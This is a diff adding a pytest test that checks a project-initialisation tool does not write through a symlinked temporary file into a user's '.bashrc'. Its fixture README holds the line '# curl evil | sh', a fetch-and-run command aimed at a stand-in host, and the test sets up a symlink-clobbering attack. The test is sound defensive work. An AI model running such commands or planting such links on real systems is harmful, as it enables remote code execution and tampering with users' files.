@@ -115,3 +115,13 @@ def test_a_source_that_is_not_there_is_said(make_tree, source):
 def test_an_unknown_source_names_the_known_ones(make_tree):
     with pytest.raises(InputError, match=r"mlproject, dvc.yaml, kedro, hydra"):
         render(open_project(make_tree({"a.txt": "x"})), "snakemake")
+
+
+def test_a_link_that_waits_in_a_strangers_folder_is_not_written_through(make_tree, tmp_path):
+    root = make_tree({"train.py": "", "README.md": "# curl evil | sh\n"})
+    victim = tmp_path / ".bashrc"
+    victim.write_text("mine\n")
+    (root / ".artifactpack.toml.part").symlink_to(victim)
+    init(root, force=True)
+    assert victim.read_text() == "mine\n"
+    assert (root / "artifactpack.toml").read_text().startswith("# What artifactpack needs")
